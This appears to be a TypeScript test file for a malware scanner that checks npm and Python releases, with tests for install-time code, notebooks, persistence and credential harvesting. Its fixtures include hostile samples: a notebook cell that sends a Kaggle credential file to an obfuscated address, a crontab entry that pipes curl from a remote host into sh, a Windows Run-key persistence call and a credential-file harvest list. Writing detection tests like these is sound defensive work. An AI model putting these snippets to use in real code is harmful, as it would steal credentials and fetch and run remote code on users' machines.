    expect(out.findings.every((f) => (f.match ?? '').length <= 200)).toBe(true);
    const nested = `${'['.repeat(50_000)}${']'.repeat(50_000)}`;
    expect(() => analyzeSource(releaseOf('npm', { 'deep.js': nested, 'deep.py': `x = ${'('.repeat(50_000)}` }), ctx)).not.toThrow();
  });
  it('matched text is bounded and control characters escaped', () => {
    expect(boundMatch(`a\u001b[31m\u202eb`)).toBe('a\\x1b[31m\\u202eb');
    expect(boundMatch('x'.repeat(500))).toHaveLength(200);
  });
});

describe('install-time flow', () => {
  it('`node -e "require(\'./x\')"` makes ./x install-time code', () => {
    const code = "eval(atob('Y29uc29sZS5sb2coMSk='))";
    const out = js('module.exports = 1', { postinstall: "node -e \"try{require('./post')}catch(e){}\"" }, { 'post.js': code });
    expect(out.findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('critical');
  });
});

describe('notebooks', () => {
  const notebook = (cells: { cell_type: string; source: string[] | string }[]): string => JSON.stringify({ nbformat: 4, metadata: {}, cells: cells.map((c) => ({ ...c, metadata: {} })) }, null, 1);
  it("a code cell that sends a credential file to a hidden address is a chain at the cell's line, one step lower (a notebook runs when its user runs it)", () => {
    const nb = notebook([
      { cell_type: 'markdown', source: ['# Setup\n'] },
      { cell_type: 'code', source: ['import pandas as pd\n'] },
      { cell_type: 'code', source: ['import os, json, urllib.request as u\n', 'p = os.path.join(os.path.expanduser("~"), ".kaggle", "kaggle.json")\n', 'u.urlopen(u.Request(bytes.fromhex("687474703a2f2f3139322e302e322e372f6b").decode(), open(p).read().encode()))\n'] },
    ]);
    const out = py({ 'nbrecipes/__init__.py': '', 'nbrecipes/recipes/_setup.ipynb': nb });
    const chain = out.findings.find((f) => f.code === 'attack_chain');
    expect(chain?.severity).toBe('high');
    expect(chain?.title).toMatch(/test, example or docs file/);
    const read = out.findings.find((f) => f.code === 'reads_credential_files');
    expect(nb.split('\n')[(read?.line ?? 0) - 1]).toContain('kaggle.json');
  });
  it('an ordinary notebook gives nothing above low; damaged notebooks give nothing and do not throw', () => {
    const nb = notebook([{ cell_type: 'code', source: 'import requests\nr = requests.get("https://api.github.com/repos/x/y")\nprint(r.json())\n' }]);
    expect(severe(py({ 'docs/tour.ipynb': nb }))).toEqual([]);
    for (const bad of ['{', '[]', '{"cells": 5}', '{"cells": [null, {"cell_type": "code", "source": 7}]}', nb.slice(0, nb.length / 2)]) expect(() => py({ 'x.ipynb': bad })).not.toThrow();
  });
});

describe('a rule raised on import, where the code runs then', () => {
  const sev = (out: { findings: readonly ScanFinding[] }, code: string) => out.findings.filter((f) => f.code === code).map((f) => f.severity);
  const windows = "const { execFile } = require('child_process');\nconst KEY = 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run';\nfunction enable(name, exe) { execFile('reg.exe', ['add', KEY, '/v', name, '/d', exe, '/f']); }\nmodule.exports = { enable };\n";
  it('keeps the rule\'s own severity for a Run key read only by a function the package\'s user calls', () => {
    const entry = "const w = require('./lib/windows');\nclass Login { enable() { return w.enable('app', process.execPath); } }\nmodule.exports = Login;\n";
    expect(sev(js(entry, {}, { 'lib/windows.js': windows }), 'persistence_scheduled')).toEqual(['medium']);
  });
  it('raises it when the package calls that function on import, in the file or from another file', () => {
    expect(sev(js("const w = require('./lib/windows');\nw.enable('app', process.execPath);\n", {}, { 'lib/windows.js': windows }), 'persistence_scheduled')).toEqual(['high']);
    const module = 'import subprocess\n\n\ndef _cron():\n    subprocess.run(["crontab", "-"], input="*/5 * * * * curl -s http://relay.kexvo.net | sh\\n", text=True)\n';
    expect(sev(py({ 'pkg/__init__.py': 'from . import _sched\n', 'pkg/_sched.py': module }), 'persistence_scheduled')).toEqual(['medium']);
    expect(sev(py({ 'pkg/__init__.py': 'from . import _sched\n_sched._cron()\n', 'pkg/_sched.py': module }), 'persistence_scheduled')).toEqual(['high']);
  });
});

describe('collectors in a release with no way out', () => {
  const audit = "const fs = require('fs');\nconst path = require('path');\nconst FILES = ['.netrc', '.git-credentials', '.pypirc'];\nfor (const f of FILES) {\n  const t = fs.readFileSync(path.join(home, f), 'utf8');\n  if (/password/.exec(t)) report(f, 'plaintext secret');\n}\n";
  const level = (out: { findings: readonly ScanFinding[] }) => out.findings.filter((f) => f.code === 'harvests_credential_files').map((f) => f.severity);
  it('a harvest list read where nothing can send (no request, process, decoding or compiled code) is a local audit, kept at medium', () => {
    expect(level(js(audit))).toEqual(['medium']);
  });
  it('the same list is high once any file of the release can send, start a program or holds compiled code', () => {
    expect(level(js(audit, {}, { 'lib/up.js': "require('https').request({ host: 'x.example' }).end();\n" }))).toEqual(['high']);
    expect(level(js(audit, {}, { 'lib/run.js': "const cp = require('child_process');\n" }))).toEqual(['high']);
    expect(level(js(audit, {}, { 'build/Release/x.node': 'bin' }))).toEqual(['high']);
    // a test file's request is not the package's way out
    expect(level(js(audit, {}, { 'test/up.test.js': "fetch('https://x.example');\n" }))).toEqual(['medium']);
  });
});
